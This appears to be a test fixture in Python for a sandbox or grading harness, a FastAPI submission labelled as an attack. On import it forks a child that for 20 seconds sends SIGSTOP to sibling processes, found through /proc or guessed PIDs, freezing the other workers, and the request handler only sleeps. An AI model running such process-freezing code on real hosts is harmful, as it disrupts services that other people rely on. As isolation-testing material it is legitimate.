"""Attack: one process of the submission stops the others, which answer for the same submission."""

import contextlib
import os
import signal
import time
from pathlib import Path

from fastapi import FastAPI

from .targets import acted

base = os.getpid()


def list_siblings():
    """List the copies: by what the kernel says, or else by their numbers, which are higher."""
    try:
        children = Path(f"/proc/{base}/task/{base}/children").read_text()
    except OSError:
        return range(os.getpid() + 1, os.getpid() + 200)
    return [int(each) for each in children.split() if int(each) != os.getpid()]


def stop(pid):
    """Stop a process, or be refused; raise `ProcessLookupError` if there is none."""
    with contextlib.suppress(PermissionError):
        os.kill(pid, signal.SIGSTOP)
    acted("signal")


def stop_all():
    until = time.monotonic() + 20
    while time.monotonic() < until:
        for pid in list_siblings():
            with contextlib.suppress(ProcessLookupError):
                stop(pid)


acted("import")
try:
    if os.fork() == 0:
        stop_all()
        os._exit(0)
except OSError as error:
    print("no process:", error)
app = FastAPI(openapi_url=None)


@app.get("/{path:path}")
def answer(path: str):
    time.sleep(1)
